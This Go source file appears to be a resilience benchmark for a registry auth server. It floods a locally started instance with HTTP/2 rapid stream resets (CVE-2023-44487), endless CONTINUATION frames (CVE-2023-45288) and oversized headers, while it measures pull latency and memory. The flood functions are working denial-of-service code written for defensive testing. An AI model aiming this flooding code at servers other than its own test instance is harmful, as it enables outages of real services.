package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/berthpass/registry-auth/examples/internal/load"
)

// floods are what clients of HTTP/2 have brought servers down with. Each writes frames for a request that is never made, until the
// server closes the connection.
func floods() map[string]func(*http2.Framer, func(more ...string) []byte, uint32) error {
	return map[string]func(*http2.Framer, func(...string) []byte, uint32) error{
		"streams that are reset at once": func(f *http2.Framer, header func(...string) []byte, stream uint32) error { // CVE-2023-44487
			return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header(), EndHeaders: true, EndStream: true}),
				f.WriteRSTStream(stream, http2.ErrCodeCancel))
		},
		"headers without an end": func(f *http2.Framer, header func(...string) []byte, stream uint32) error { // CVE-2023-45288
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header()})
			for err == nil {
				err = f.WriteContinuation(stream, false, header("x-more", strings.Repeat("x", 8<<10)))
			}
			return err
		},
		"headers that are too large": func(f *http2.Framer, header func(...string) []byte, stream uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{
				StreamID: stream, BlockFragment: header("x-large", strings.Repeat("x", 15<<10)), EndHeaders: true, EndStream: true,
			})
		},
	}
}

// measureStreams floods a server with HTTP/2 in all of these ways at once, while others pull.
func measureStreams(ctx context.Context, b *bench) (checks []check, err error) {
	operators, err := freeAddress(ctx)
	if err != nil {
		return nil, err
	}
	certificate, files, err := newCertificate()
	if err != nil {
		return nil, err
	}
	p, err := b.start(ctx, &configuration{
		server: "certificate: tls.crt, key: tls.key", more: fmt.Sprintf("metrics: {addr: %q}\n", operators), files: files, operators: operators,
	})
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, p.stop()) }()
	p.url = "https://" + p.host + "/auth"
	roots := x509.NewCertPool()
	roots.AddCert(certificate)
	flooding, stop := context.WithCancel(ctx)
	var clients sync.WaitGroup
	var frames atomic.Uint64
	for _, flood := range floods() {
		for range 2 {
			clients.Go(func() {
				for flooding.Err() == nil {
					_ = floodOnce(flooding, p.host, roots, flood, &frames) // until the server has had enough
				}
			})
		}
	}
	report, err := b.load(ctx, p, load.Config{WarmUp: warmUp, RootCAs: roots, Groups: []load.Group{
		{Name: "pulls", Kind: load.Anonymous, Clients: 16, Scopes: publicScopes()},
	}})
	stop()
	clients.Wait()
	if err != nil {
		return nil, err
	}
	most, err := p.residentMost()
	g := &report.Groups[0]
	return []check{
		none("requests without a token beside floods of HTTP/2", failures(g)).noted("%.0f/s, p99 %v", g.Rate, g.Latency.P99),
		some("frames of the floods", frames.Load()),
		memory("memory of the server", most, 150<<20),
	}, err
}

func floodOnce(ctx context.Context, host string, roots *x509.CertPool, flood func(*http2.Framer, func(...string) []byte, uint32) error, frames *atomic.Uint64) error {
	dialer := tls.Dialer{Config: &tls.Config{RootCAs: roots, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12}}
	connection, err := dialer.DialContext(ctx, "tcp", host)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { _ = connection.Close() })()
	defer connection.Close()
	go func() { _, _ = io.Copy(io.Discard, connection) }()
	framer := http2.NewFramer(connection, nil)
	if _, err := io.WriteString(connection, http2.ClientPreface); err != nil {
		return err
	}
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	header := func(more ...string) []byte {
		block.Reset()
		list := []string{":method", "GET", ":scheme", "https", ":authority", "registry", ":path", "/auth?service=" + serviceName}
		if len(more) > 0 && more[0] == "x-more" {
			list = nil
		}
		for list = append(list, more...); len(list) > 0; list = list[2:] {
			_ = encoder.WriteField(hpack.HeaderField{Name: list[0], Value: list[1]}) // into memory
		}
		frames.Add(1)
		return block.Bytes()
	}
	for stream := uint32(1); err == nil; stream += 2 {
		err = flood(framer, header, stream)
	}
	return err
}

// newCertificate is one for this machine, with the files of a configuration.
func newCertificate() (*x509.Certificate, map[string][]byte, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(24 * time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		return nil, nil, err
	}
	private, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return nil, nil, err
	}
	certificate, err := x509.ParseCertificate(der)
	return certificate, map[string][]byte{
		"tls.crt": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		"tls.key": pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private}),
	}, err
}
